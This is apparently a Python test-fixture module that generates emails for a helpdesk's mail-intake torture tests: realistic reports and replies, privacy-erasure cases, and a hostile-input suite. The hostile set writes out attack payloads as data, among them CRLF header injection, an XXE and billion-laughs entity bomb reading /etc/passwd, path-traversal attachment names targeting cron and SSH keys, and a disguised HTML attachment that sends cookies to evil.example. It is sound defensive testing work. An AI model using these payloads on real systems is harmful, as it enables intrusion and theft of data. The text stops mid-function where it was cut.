"""Deterministic email generators for the torture suites (Python 3 standard library only).

Every function takes an explicit random.Random or a seed, so the same arguments always give the same bytes.

    traffic(n, seed)   -> [Mail]   realistic intake: new reports (complete and incomplete, some in the shapes
                                   of Samples/*.eml), replies to earlier reports, out-of-office replies, bounces
    hostile(seed, short) -> [(name, bytes-or-callable)]   attack and junk messages (see HOSTILE below)
    privacy(short)     -> [(name, bytes)]   other people's mail naming the data subject ERASED only in hidden
                                   forms (encoded words, percent escapes, file names), for `subject erase`
"""

import base64
import os
import random
import re
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLES = os.path.join(HERE, "..", "..", "Samples")
DATE = "Mon, 11 Nov 2024 10:47:09 +0000"


def png(width, height):
    """A minimal valid PNG: signature, IHDR claiming width x height, an empty IDAT, IEND."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 16)) + chunk(b"IEND", b"")


def jpeg(width, height):
    """JPEG header bytes: SOI, a SOF0 segment claiming width x height, EOI."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + sof + b"\xff\xd9"


def b64lines(data, width=76):
    text = base64.b64encode(data).decode()
    return "\r\n".join(text[i : i + width] for i in range(0, len(text), width))


class Mail:
    """One generated email: its bytes, its Message-ID, and what the helpdesk should make of it."""

    def __init__(self, kind, message_id, sender, raw, parent=None):
        self.kind = kind  # report | incomplete | sample | reply | auto-reply | bounce
        self.message_id = message_id
        self.sender = sender
        self.raw = raw
        self.parent = parent  # Message-ID of the report a reply answers

    @property
    def opens_ticket(self):
        return self.kind in ("report", "incomplete", "sample")


def _report_body(rng, n, complete):
    lines = [
        "Dear Helpdesk team,",
        "",
        "We had a problem with a proctored exam this morning.",
        "",
        "Server: https://proctor%d.example.edu" % (n % 7),
        "Time of detection: 2024-11-11 10:%02d +00:00" % (n % 60),
    ]
    if complete:
        lines.append("Session ID: %08x-4e5b-4d8a-b1c6-%012x" % (rng.getrandbits(32), n))
    lines += [
        "User ID: s%07d" % n,
        "",
        "Description:",
        "The student's webcam picture went black %d minutes into the exam and the page said" % (n % 50 + 5),
        "\"Camera is not available\". Reloading the page did not help. Case %d." % n,
        "",
        "Kind regards,",
        "Examiner %d" % n,
    ]
    return "\r\n".join(lines) + "\r\n"


def _report(rng, n, complete):
    boundary = "----=_torture_%d" % n
    sender = "reporter%d@uni%d.example.edu" % (n, n % 13)
    message_id = "<torture-%d@uni.example.edu>" % n
    headers = [
        "Return-Path: <%s>" % sender,
        "Message-ID: %s" % message_id,
        "Date: " + DATE,
        "From: Examiner %d <%s>" % (n, sender),
        "To: Example Helpdesk <helpdesk@example.com>",
        "Subject: Camera lost during exam, case %d" % n,
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="%s"' % boundary,
    ]
    parts = [
        "--%s\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n%s"
        % (boundary, _report_body(rng, n, complete))
    ]
    if complete:
        parts.append(
            "--%s\r\nContent-Type: image/png; name=\"shot-%d.png\"\r\nContent-Disposition: attachment; "
            "filename=\"shot-%d.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n"
            % (boundary, n, n, b64lines(png(1280, 720 + n % 100)))
        )
    raw = "\r\n".join(headers) + "\r\n\r\n" + "".join(parts) + "--%s--\r\n" % boundary
    return Mail("report" if complete else "incomplete", message_id, sender, raw.encode())


def report_with_attachment(n, size):
    """A complete report whose screenshot carries `size` extra random bytes (to fill a disk)."""
    mail = _report(random.Random(n), n, complete=True)
    blob = b64lines(png(1280, 720) + random.Random(n).randbytes(size)).encode()
    boundary = b"----=_torture_%d" % n
    extra = (b"--" + boundary + b"\r\nContent-Type: application/octet-stream; name=\"log.bin\"\r\n"
             b"Content-Transfer-Encoding: base64\r\n\r\n" + blob + b"\r\n")
    closing = b"--" + boundary + b"--\r\n"
    mail.raw = mail.raw.replace(closing, extra + closing)
    return mail


def _reply(n, parent):
    message_id = "<torture-%d@uni.example.edu>" % n
    raw = "\r\n".join([
        "Message-ID: %s" % message_id,
        "Date: " + DATE,
        "From: Examiner <%s>" % parent.sender,
        "To: helpdesk@example.com",
        "Subject: Re: Camera lost during exam",
        "In-Reply-To: %s" % parent.message_id,
        "References: %s" % parent.message_id,
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=UTF-8",
        "",
        "Here is the missing data.",
        "",
        "Session ID: %08x-1111-2222-3333-444455556666" % n,
        "",
        "> On Monday the helpdesk wrote:",
        "> Please send the session ID.",
        "",
    ]).encode()
    return Mail("reply", message_id, parent.sender, raw, parent=parent.message_id)


def _auto_reply(n):
    sender = "away%d@example.org" % n
    message_id = "<torture-%d@away.example.org>" % n
    raw = "\r\n".join([
        "Message-ID: %s" % message_id,
        "Date: " + DATE,
        "From: Away <%s>" % sender,
        "To: helpdesk@example.com",
        "Subject: Automatic reply: Camera lost during exam",
        "Auto-Submitted: auto-replied",
        "X-Auto-Response-Suppress: All",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=UTF-8",
        "",
        "I am out of the office until Monday %d and will read your message then." % n,
        "",
    ]).encode()
    return Mail("auto-reply", message_id, sender, raw)


def _bounce(n):
    message_id = "<torture-%d@mx.example.net>" % n
    boundary = "bounce.%d/mx.example.net" % n
    raw = "\r\n".join([
        "Return-Path: <>",
        "Message-ID: %s" % message_id,
        "Date: " + DATE,
        "From: MAILER-DAEMON@mx.example.net (Mail Delivery System)",
        "To: helpdesk@example.com",
        "Subject: Undelivered Mail Returned to Sender",
        "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        'Content-Type: multipart/report; report-type=delivery-status; boundary="%s"' % boundary,
        "",
        "--" + boundary,
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "Your message could not be delivered to nobody%d@example.net." % n,
        "",
        "--" + boundary,
        "Content-Type: message/delivery-status",
        "",
        "Reporting-MTA: dns; mx.example.net",
        "",
        "Final-Recipient: rfc822; nobody%d@example.net" % n,
        "Action: failed",
        "Status: 5.1.1",
        "",
        "--" + boundary + "--",
        "",
    ]).encode()
    return Mail("bounce", message_id, "", raw)


def _samples():
    """The human samples whose shape we reuse (replies and machine mail are generated above)."""
    names = sorted(f for f in os.listdir(SAMPLES) if f.endswith(".eml"))
    keep = []
    for name in names:
        raw = open(os.path.join(SAMPLES, name), "rb").read()
        head = raw.split(b"\n\n", 1)[0].split(b"\r\n\r\n", 1)[0].lower()
        if b"auto-submitted" in head or b"in-reply-to" in head or b"mailer-daemon" in head:
            continue
        keep.append(raw)
    return keep


def _from_sample(raw, n):
    """A sample with a fresh Message-ID and sender, so it is a new report from a new person."""
    sender = "sample%d@college%d.example.edu" % (n, n % 11)
    message_id = "<torture-%d@sample.example.edu>" % n
    head, sep, body = raw.partition(b"\r\n\r\n") if b"\r\n\r\n" in raw else raw.partition(b"\n\n")
    nl = b"\r\n" if sep == b"\r\n\r\n" else b"\n"
    # Unfold, drop the headers we replace, then add ours.
    lines = re.sub(rb"\r?\n[ \t]", b" ", head).split(nl)
    drop = (b"message-id:", b"from:", b"return-path:", b"reply-to:", b"sender:", b"in-reply-to:", b"references:")
    lines = [line for line in lines if not line.lower().startswith(drop)]
    lines += [b"Message-ID: " + message_id.encode(), b"From: Sample Sender <" + sender.encode() + b">"]
    return Mail("sample", message_id, sender, nl.join(lines) + sep + body)


def traffic(n, seed=8):
    """n emails of realistic intake, in arrival order (a reply always after its report)."""
    rng = random.Random(seed)
    samples = _samples()
    mails = []
    waiting = []  # incomplete reports nobody has replied to yet
    for i in range(1, n + 1):
        roll = rng.random()
        if roll < 0.15 and waiting:
            mails.append(_reply(i, waiting.pop(rng.randrange(len(waiting)))))
        elif roll < 0.25:
            mails.append(_auto_reply(i))
        elif roll < 0.32:
            mails.append(_bounce(i))
        elif roll < 0.42 and samples:
            mails.append(_from_sample(samples[i % len(samples)], i))
        else:
            mail = _report(rng, i, complete=rng.random() < 0.6)
            if mail.kind == "incomplete":
                waiting.append(mail)
            mails.append(mail)
    return mails


# ---------------------------------------------------------------------------------------------------------
# Hostile input. Each entry is (name, factory); the factory returns the message bytes, so the big ones are
# only built when they are fed. `short` scales the giants down (for `make test`).

INJECTION = "Hello\r\nBcc: victim@evil.example\r\nX-Injected: yes"
ESCAPE = "torture-escape"  # marks every attachment name that tries to leave the state directory


def _simple(headers, body, content_type="text/plain; charset=UTF-8", extra=()):
    lines = [
        "Message-ID: <hostile-%s@evil.example>" % headers.get("id", "x"),
        "Date: " + DATE,
        "From: %s" % headers.get("from", "Mallory <mallory@evil.example>"),
        "To: helpdesk@example.com",
        "Subject: %s" % headers.get("subject", "Exam broken"),
        "MIME-Version: 1.0",
        "Content-Type: " + content_type,
    ] + list(extra)
    head = "\r\n".join(lines).encode()
    return head + b"\r\n\r\n" + (body if isinstance(body, bytes) else body.encode())


def _with_attachment(name_header, payload, content_type="application/octet-stream", mid="att"):
    b = "att-boundary"
    body = (
        "--%s\r\nContent-Type: text/plain\r\n\r\nSee attachment. Session ID: abc\r\n"
        "--%s\r\nContent-Type: %s\r\nContent-Disposition: attachment; %s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        % (b, b, content_type, name_header)
    ).encode() + b64lines(payload).encode() + ("\r\n--%s--\r\n" % b).encode()
    return _simple({"id": mid}, body, 'multipart/mixed; boundary="%s"' % b)


def _nested_multipart(depth):
    out = [b"Message-ID: <hostile-deep@evil.example>\r\nFrom: m@evil.example\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"]
    for i in range(depth):
        out.append(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i))
    out.append(b"Content-Type: text/plain\r\n\r\nbottom\r\n")
    for i in reversed(range(depth)):
        out.append(b"--b%d--\r\n" % i)
    return b"".join(out)


def _nested_rfc822(depth):
    out = [b"Message-ID: <hostile-deep822@evil.example>\r\nFrom: m@evil.example\r\nSubject: deep\r\n"]
    for _ in range(depth):
        out.append(b"Content-Type: message/rfc822\r\n\r\nFrom: x@evil.example\r\nSubject: inner\r\n")
    out.append(b"Content-Type: text/plain\r\n\r\nbottom\r\n")
    return b"".join(out)


def _many_parts(count):
    parts = b"".join(b"--p\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i for i in range(count))
    return _simple({"id": "parts"}, parts + b"--p--\r\n", 'multipart/mixed; boundary="p"')


def _many_headers(count):
    head = b"".join(b"X-Junk-%d: value\r\n" % i for i in range(count))
    return head + _simple({"id": "headers"}, "body")


def _long_base64_line(size):
    payload = base64.b64encode(os.urandom(0) + bytes(range(256)) * (size // 341 + 1))[:size]
    body = (b"--l\r\nContent-Type: text/plain\r\n\r\nlong line\r\n--l\r\nContent-Type: image/png\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + payload + b"\r\n--l--\r\n")
    return _simple({"id": "longline"}, body, 'multipart/mixed; boundary="l"')


def _one_char_lines(size):
    text = base64.b64encode(png(800, 600) + bytes(size))
    body = (b"--o\r\nContent-Type: text/plain\r\n\r\nshort lines\r\n--o\r\nContent-Type: image/png\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + b"\r\n".join(text[i:i + 1] for i in range(len(text))) + b"\r\n--o--\r\n")
    return _simple({"id": "onechar"}, body, 'multipart/mixed; boundary="o"')


def _entity_bomb(depth):
    """Billion laughs, an external entity naming /etc/passwd and a remote parameter entity, in HTML."""
    entities = '<!ENTITY a0 "lollollollollollollollollollol">' + "".join(
        '<!ENTITY a%d "%s">' % (i, ("&a%d;" % (i - 1)) * 10) for i in range(1, depth))
    html = ('<?xml version="1.0"?><!DOCTYPE html [' + entities
            + '<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'
            + "<html><body><p>&a" + str(depth - 1) + "; &xxe;</p><p>Server: proctor.example.edu</p></body></html>")
    return _simple({"id": "bomb"}, html, "text/html; charset=UTF-8")


def _million_urls(count):
    body = "".join("https://u%d.example.com/path?q=%d\r\n" % (i % 5000, i) for i in range(count))
    return _simple({"id": "urls"}, body)


def _many_references(count):
    """A reply whose References names `count` messages: it used to bind one SQL parameter each and stop intake."""
    refs = " ".join("<%d@r.x>" % i for i in range(count))
    return _simple({"id": "references"}, "Session ID: abc, see the thread.", extra=["References: " + refs])


def _ticket_prefix_subject(size):
    """A subject of "HD-" repeated: the ticket-reference search used to restart at every match."""
    return _simple({"id": "hdsubject", "subject": "HD-" * (size // 3)}, "Exam broken.")


# Scaling inputs (issue #16): each builds an email of about `size` bytes that stresses one scan of attacker text.
# The hostile suite times every one at n, 2n and 4n: time must grow linearly.
def _scale_labels(size):
    return _simple({"id": "s-labels"}, "Session ID: x\r\nServer - y\r\nUser: z\r\n" * (size // 40))


def _scale_quotes(size):
    return _simple({"id": "s-quotes"}, "> > > quoted\r\nOn Mon wrote:\r\nanswer 10:32\r\n" * (size // 45))


def _scale_long_line(size):
    return _simple({"id": "s-line"}, "a" * size)


def _scale_times(size):
    return _simple({"id": "s-times"}, "at 10:32 on 11.11.2024 +03:00 (MSK) " * (size // 37))


def _scale_hosts(size):
    return _simple({"id": "s-hosts"}, "see proctor.example.edu:8443/x?session=1 " * (size // 42))


def _scale_encoded_subject(size):
    return _simple({"id": "s-ew", "subject": "=?utf-8?q?HD-=C3=A9?= " * (size // 22)}, "body")


def _scale_addresses(size):
    to = ", ".join("User %d <u%d@x.example>" % (i, i) for i in range(size // 24))
    return _simple({"id": "s-to"}, "body", extra=["Cc: " + to])


def _scale_html(size):
    html = "<div><table><tr><td>Session ID</td><td>x</td></tr></table>" * (size // 59) + "</div>" * (size // 59)
    return _simple({"id": "s-html"}, html, "text/html; charset=UTF-8")


SCALING = [
    ("references", _many_references, 12),
    ("subject-hd", _ticket_prefix_subject, 1),
    ("labels", _scale_labels, 1),
    ("quotes", _scale_quotes, 1),
    ("long-line", _scale_long_line, 1),
    ("times", _scale_times, 1),
    ("hosts", _scale_hosts, 1),
    ("encoded-subject", _scale_encoded_subject, 1),
    ("addresses", _scale_addresses, 1),
    ("html", _scale_html, 1),
]


def scaling(size):
    """[(name, bytes)]: every scaling input at about `size` bytes (the references one counts ids, ~12 bytes each)."""
    return [(name, build(size // per)) for name, build, per in SCALING]


def _boundary_tricks():
    yield "boundary-prefix", _simple({"id": "bp"}, "--a\r\n\r\none\r\n--ab\r\n\r\ntwo\r\n--a--\r\n", 'multipart/mixed; boundary="a"')
    yield "boundary-missing-close", _simple({"id": "bm"}, "--z\r\nContent-Type: text/plain\r\n\r\nnever closed\r\n", "multipart/mixed; boundary=z")
    yield "boundary-empty", _simple({"id": "be"}, "--\r\n\r\nx\r\n----\r\n", 'multipart/mixed; boundary=""')
    yield "boundary-whitespace", _simple({"id": "bw"}, "--a b  \r\n\r\nx\r\n--a b--  \r\n", 'multipart/mixed; boundary="a b"')
    yield "boundary-long", _simple({"id": "bl"}, "--%s\r\n\r\nx\r\n--%s--\r\n" % ("q" * 5000, "q" * 5000), 'multipart/mixed; boundary="%s"' % ("q" * 5000))
    yield "boundary-same-nested", _simple({"id": "bs"}, "--s\r\nContent-Type: multipart/mixed; boundary=s\r\n\r\n--s\r\n\r\ninner\r\n--s--\r\n--s--\r\n", "multipart/mixed; boundary=s")
    yield "boundary-twice-param", _simple({"id": "bt"}, "--one\r\n\r\nx\r\n--two\r\n\r\ny\r\n--one--\r\n", "multipart/mixed; boundary=one; boundary=two")
    yield "boundary-in-header", _simple({"id": "bh"}, "--h\r\nX-Note: --h--\r\n\r\nx\r\n--h--\r\n", "multipart/mixed; boundary=h")
    yield "boundary-no-crlf-before", _simple({"id": "bn"}, "text--k\r\n\r\nx--k--", "multipart/mixed; boundary=k")
    yield "boundary-only-close", _simple({"id": "bo"}, "--c--\r\n--c--\r\n--c--\r\n", "multipart/mixed; boundary=c")
    yield "multipart-digest-empty", _simple({"id": "de"}, "--d\r\n\r\n--d--\r\n", "multipart/digest; boundary=d")
    yield "rfc2231-boundary", _simple({"id": "b2"}, "--xy\r\n\r\nx\r\n--xy--\r\n", "multipart/mixed; boundary*0=x; boundary*1=y")


def _charsets():
    yield "utf7-body", _simple({"id": "u7"}, "Hi Mom -+Jjo--!  Server: proctor.example.edu +AFw-", "text/plain; charset=UTF-7")
    yield "utf7-subject", _simple({"id": "u7s", "subject": "=?UTF-7?Q?+ZeVnLIqe-?= +AA0ACg-Bcc: x@evil.example"}, "body")
    le = "Server: proctor.example.edu\r\nSession ID: 12345\r\nBcc: x@evil.example".encode("utf-16-le")
    yield "utf16le-no-bom", _simple({"id": "u16le"}, le, "text/plain; charset=UTF-16")
    yield "utf16be-no-bom", _simple({"id": "u16be"}, "Hello\r\nworld".encode("utf-16-be"), "text/plain; charset=UTF-16")
    yield "utf16-odd-length", _simple({"id": "u16odd"}, "Hello".encode("utf-16-le") + b"\x00", "text/plain; charset=utf-16le")
    yield "utf32", _simple({"id": "u32"}, "Hello".encode("utf-32-le"), "text/plain; charset=utf-32")
    yield "unknown-charset", _simple({"id": "unk"}, b"\xff\xfe\xfd", "text/plain; charset=x-evil-1")
    yield "charset-overlong-utf8", _simple({"id": "ov"}, b"\xc0\xaf\xe0\x80\xaf \xed\xa0\x80", "text/plain; charset=utf-8")
    yield "html-utf16", _simple({"id": "h16"}, "<html><body>Hi</body></html>".encode("utf-16-le"), "text/html; charset=utf-16")


def _injections():
    b64 = base64.b64encode(INJECTION.encode()).decode()
    yield "rfc2047-subject-b-crlf", _simple({"id": "i1", "subject": "=?UTF-8?B?%s?=" % b64}, "Session ID: 1")
    yield "rfc2047-subject-q-crlf", _simple({"id": "i2", "subject": "=?UTF-8?Q?Hello=0D=0ABcc:_victim@evil.example=0D=0AX-Injected:_yes?="}, "x")
    yield "rfc2047-subject-lf", _simple({"id": "i3", "subject": "=?UTF-8?Q?Hello=0ABcc:_victim@evil.example=0AX-Injected:_yes?="}, "x")
    yield "rfc2047-subject-cr", _simple({"id": "i4", "subject": "=?UTF-8?Q?Hello=0DX-Injected:_yes?="}, "x")
    yield "rfc2047-subject-nul", _simple({"id": "i5", "subject": "=?UTF-8?Q?Hello=00X-Injected:_yes?="}, "x")
    yield "rfc2047-name-crlf", _simple({"id": "i6", "from": "=?UTF-8?B?%s?= <eve@evil.example>" % b64}, "x")
    yield "rfc2047-name-q-crlf", _simple({"id": "i7", "from": "=?UTF-8?Q?Eve=0D=0AX-Injected:_yes?= <eve2@evil.example>"}, "x")
    yield "quoted-name-crlf", _simple({"id": "i8", "from": '"Eve\\\r\nX-Injected: yes" <eve3@evil.example>'}, "x")
    yield "address-crlf", _simple({"id": "i9", "from": "<eve4@evil.example\r\nX-Injected: yes>"}, "x")
    yield "message-id-crlf", b"Message-ID: <=?UTF-8?Q?a=0D=0AX-Injected:_yes?=@evil.example>\r\nFrom: e5@evil.example\r\nSubject: x\r\n\r\nx"
    yield "in-reply-to-injection", _simple({"id": "i10"}, "x", extra=["In-Reply-To: <a@b>\r\n X-Injected: yes", "References: <x\r\nX-Injected: yes>"])
    yield "subject-utf8-raw-crlf", b"Message-ID: <i11@evil.example>\r\nFrom: e6@evil.example\r\nSubject: a\rX-Injected: yes\r\n\r\nbody"
    yield "subject-unicode-separators", _simple({"id": "i12", "subject": "=?UTF-8?B?%s?=" % base64.b64encode("a\u2028X-Injected: yes\u0085Bcc: v@evil.example".encode()).decode()}, "x")
    yield "subject-very-long-encoded", _simple({"id": "i13", "subject": " ".join(["=?UTF-8?B?%s?=" % b64] * 500)}, "x")
    yield "reply-to-injection", _simple({"id": "i14"}, "x", extra=["Reply-To: =?UTF-8?Q?x=0D=0AX-Injected:_yes?= <r@evil.example>"])


def _attachment_names():
    names = [
        ("dotdot", 'filename="../../../../tmp/%s-1.txt"' % ESCAPE),
        ("dotdot-backslash", 'filename="..\\\\..\\\\..\\\\%s-2.txt"' % ESCAPE),
        ("absolute", 'filename="/tmp/%s-3.txt"' % ESCAPE),
        ("absolute-etc", 'filename="/etc/cron.d/%s-4"' % ESCAPE),
        ("nul", "filename*=utf-8''%s-5%%00.png.exe" % ESCAPE),
        ("control", "filename*=utf-8''%s-6%%01%%1b%%5b31m%%0d%%0aX-Injected%%3a%%20yes.txt" % ESCAPE),
        ("windows-con", 'filename="CON"'),
        ("windows-nul-ext", 'filename="NUL.txt"'),
        ("windows-com1", 'filename="com1.png"'),
        ("windows-aux", 'filename="AUX"'),
        ("windows-trailing-dot", 'filename="%s-7.txt. . "' % ESCAPE),
        ("unicode-rtl", "filename*=utf-8''%s-8%%E2%%80%%AEgnp.exe" % ESCAPE),
        ("long-name", 'filename="%s-9-%s.txt"' % (ESCAPE, "a" * 5000)),
        ("dotdot-2231", "filename*0*=utf-8''..%%2F..%%2F; filename*1=%s-10.txt" % ESCAPE),
        ("dotdot-encoded-word", 'filename="=?UTF-8?Q?=2E=2E=2F=2E=2E=2F%s-11=2Etxt?="' % ESCAPE),
        ("only-dots", 'filename=".."'),
        ("slash", 'filename="/"'),
        ("tilde", 'filename="~/.ssh/authorized_keys"'),
    ]
    for name, header in names:
        yield "attachment-name-" + name, _with_attachment(header, b"payload " + name.encode(), mid="name-" + name)


def _disguised():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    html = b"<!DOCTYPE html><html><script>fetch('https://evil.example/'+document.cookie)</script></html>"
    yield "svg-as-png", _with_attachment('filename="screenshot.png"', svg, "image/png", "svgpng")
    yield "html-as-png", _with_attachment('filename="screenshot.png"', html, "image/png", "htmlpng")
    yield "html-as-jpeg", _with_attachment('filename="photo.jpg"', html, "image/jpeg", "htmljpg")
    yield "png-polyglot-html", _with_attachment('filename="shot.png"', png(800, 600) + html, "image/png", "poly")
    yield "png-100000x100000", _with_attachment('filename="huge.png"', png(100000, 100000), "image/png", "pnghuge")
    yield "png-4294967295", _with_attachment('filename="max.png"', png(0xFFFFFFFF, 0xFFFFFFFF), "image/png", "pngmax")
    yield "png-zero", _with_attachment('filename="zero.png"', png(0, 0), "image/png", "pngzero")
    yield "jpeg-65535", _with_attachment('filename="huge.jpg"', jpeg(65535, 65535), "image/jpeg", "jpghuge")
    yield "jpeg-truncated", _with_attachment('filename="t.jpg"', b"\xff\xd8\xff\xc0\x00", "image/jpeg", "jpgtrunc")
    yield "png-truncated-ihdr", _with_attachment('filename="t.png"', png(800, 600)[:20], "image/png", "pngtrunc")
    yield "gif-huge", _with_attachment('filename="a.gif"', b"GIF89a\xff\xff\xff\xff" + bytes(20), "image/gif", "gif")


def _junk(rng, short):
    yield "empty", b""
    yield "only-crlf", b"\r\n"
    yield "headers-only", b"Message-ID: <h@evil.example>\r\nFrom: h@evil.example\r\nSubject: headers only\r\n"
    yield "headers-only-blank", b"From: h2@evil.example\r\nSubject: headers only\r\n\r\n"
    yield "no-headers", b"\r\nJust a body, no header at all. Server: proctor.example.edu\r\n"
    yield "nul-bytes", b"\x00" * 4096
    yield "header-no-colon", b"This is not a header\r\nNor this\r\n\r\nbody"
    yield "header-huge-line", b"Subject: " + b"A" * (2 << 20) + b"\r\nFrom: l@evil.example\r\n\r\nx"
    yield "folded-forever", b"Subject: x\r\n" + b" y\r\n" * 100000 + b"From: f@evil.example\r\n\r\nx"
    yield "lf-only", b"From: lf@evil.example\nSubject: lf\n\nbody\n"
    yield "cr-only", b"From: cr@evil.example\rSubject: cr\r\rbody\r"
    yield "mbox-from", b"From evil@evil.example Mon Jan  1 00:00:00 2024\r\nFrom: m@evil.example\r\n\r\nx"
    yield "qp-soft-breaks", _simple({"id": "qp"}, "=\r\n" * 100000 + "=ZZ=4", extra=["Content-Transfer-Encoding: quoted-printable"])
    yield "base64-garbage", _simple({"id": "b64g"}, "!!!!@@@@####" * 1000, extra=["Content-Transfer-Encoding: base64"])
    yield "uuencode", _simple({"id": "uu"}, "begin 644 ../../%s-12\r\nM\r\nend\r\n" % ESCAPE, extra=["Content-Transfer-Encoding: x-uuencode"])
    yield "date-overflow", _simple({"id": "dt"}, "Time of detection: 99999999-99-99 99:99\r\n", extra=["Date: Mon, 99 Zzz 999999999 99:99:99 +9999"])
    yield "addresses-10000", _simple({"id": "addr"}, "x", extra=["Cc: " + ", ".join("u%d@e.example" % i for i in range(10000 if not short else 100))])
    yield "group-nesting", _simple({"id": "grp", "from": "a:b:c:d:e:f:" * 1000 + "x@evil.example;" * 6000}, "x")
    yield "comment-nesting", _simple({"id": "cmt", "from": "(" * 50000 + "x@evil.example" + ")" * 50000}, "x")
    yield "html-deep-tags", _simple({"id": "hdeep"}, "<div>" * 200000 + "deep" + "</div>" * 200000, "text/html")
    yield "html-unclosed-comment", _simple({"id": "hcom"}, "<html><!--" + "x" * 100000, "text/html")
    yield "tnef", _with_attachment('filename="winmail.dat"', b"\x78\x9f\x3e\x22" + bytes(rng.getrandbits(8) for _ in range(512)), "application/ms-tnef", "tnef")
    # Random bytes and mutations of real mail, deterministic from the seed.
    samples = _samples()
    for i in range(2 if short else 150):
        size = rng.choice([1, 7, 64, 512, 4096, 65536])
        yield "random-%03d" % i, bytes(rng.getrandbits(8) for _ in range(size))
    for i in range(2 if short else 260):
        raw = bytearray(samples[i % len(samples)])
        mode = i % 5
        if mode == 0:  # bit flips
            for _ in range(1 + i % 40):
                raw[rng.randrange(len(raw))] ^= 1 << rng.randrange(8)
        elif mode == 1:  # truncation
            raw = raw[: rng.randrange(1, len(raw))]
        elif mode == 2:  # spliced bytes
            at = rng.randrange(len(raw))
            raw[at:at] = bytes(rng.choice(b"\r\n\0-=:;\"<>") for _ in range(rng.randrange(1, 64)))
        elif mode == 3:  # duplicated slice
            a = rng.randrange(len(raw))
            raw[a:a] = raw[a : a + rng.randrange(1, 2000)] * rng.randrange(2, 20)
        else:  # header section shuffled
            head, _, body = bytes(raw).partition(b"\r\n\r\n") if b"\r\n\r\n" in raw else bytes(raw).partition(b"\n\n")
            lines = head.splitlines()
            rng.shuffle(lines)
            raw = bytearray(b"\r\n".join(lines) + b"\r\n\r\n" + body)
        yield "mutant-%03d" % i, bytes(raw)


ERASED = "victim.student@school.example"  # the data subject of the privacy cases


def privacy(short=False):
    """[(name, bytes)]: strangers' reports that name ERASED where a byte search does not see it.

    Erasing ERASED afterwards must report clean (exit 0), and no header section may still name it
    once decoded (torture.py checks with Python's own decoders).
    """
    def report(n, subject, extra=(), attachment_name=None):
        headers = {"id": "privacy-%d" % n, "from": "Stranger %d <stranger%d@elsewhere.example>" % (n, n),
                   "subject": subject}
        body = "The exam page stays white. Server: proctor.example.edu\r\nSession ID: 7f3c9a%02d\r\n" % n
        if attachment_name is None:
            return _simple(headers, body, extra=extra)
        b = "pv"
        mixed = ("--%s\r\nContent-Type: text/plain\r\n\r\n%s--%s\r\nContent-Type: image/png\r\n"
                 "Content-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                 % (b, body, b, attachment_name)) + b64lines(png(1280, 720)) + "\r\n--%s--\r\n" % b
        return _simple(headers, mixed, 'multipart/mixed; boundary="%s"' % b, extra=extra)

    def b_word(text):
        return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode()).decode()

    local, domain = ERASED.split("@")
    copies = 2000 if short else 20000
    yield "privacy-encoded-subject", report(1, b_word("Prüfung:" + ERASED + " startet nicht"))
    yield "privacy-split-words", report(2, "=?utf-8?q?about_%s?= =?iso-8859-1?q?=40%s?=" % (local, domain))
    yield "privacy-glued-word", report(3, "Re:%s=?utf-8?q?=40%s?=" % (local, domain))
    yield "privacy-percent-url", report(4, "Exam broken", extra=[
        "X-Report-Link: <https://reports.example/u?who=%s%%40%s>" % (local.upper(), domain.replace(".", "%2e"))])
    yield "privacy-file-name", report(5, "Screenshot attached", attachment_name=ERASED + ".png")
    yield "privacy-encoded-in-comments", report(6, "Exam broken", extra=[
        "Comments: " + b_word(ERASED.upper()), "Keywords: =?us-ascii?q?%s=2540%s?=" % (local, domain)])
    yield "privacy-many-words-%d" % copies, report(7, "Exam broken", extra=[
        "Comments: " + " ".join([b_word(ERASED)] * copies),
        "X-Links: " + ",".join(["<https://r.example/?u=%s%%40%s>" % (local, domain)] * copies)])


def hostile(seed=8, short=False):
    """[(name, factory)]: the hostile-input suite; `short` scales the giants down and keeps a sample."""
    rng = random.Random(seed)
    scale = (lambda full, small: small) if short else (lambda full, small: full)
    giants = [
        ("nesting-10000-multipart", lambda: _nested_multipart(scale(10000, 1000))),
        ("nesting-10000-rfc822", lambda: _nested_rfc822(scale(10000, 1000))),
        ("parts-100000", lambda: _many_parts(scale(100000, 5000))),
        ("header-lines-500000", lambda: _many_headers(scale(500000, 20000))),
        ("base64-line-100MB", lambda: _long_base64_line(scale(100 << 20, 1 << 20))),
        ("base64-1-char-lines", lambda: _one_char_lines(scale(200000, 20000))),
        ("entity-bomb-xxe", lambda: _entity_bomb(10)),
        ("urls-1000000", lambda: _million_urls(scale(1000000, 10000))),
        ("references-300000", lambda: _many_references(scale(300000, 30000))),
        ("subject-hd-repeated-100KB", lambda: _ticket_prefix_subject(scale(100 * 1024, 60 * 1024))),
    ]
    rest = []
    for group in (_boundary_tricks(), _charsets(), _injections(), _attachment_names(), _disguised(), _junk(rng, short)):
        for name, raw in group:
            rest.append((name, (lambda r=raw: r)))
    if short:
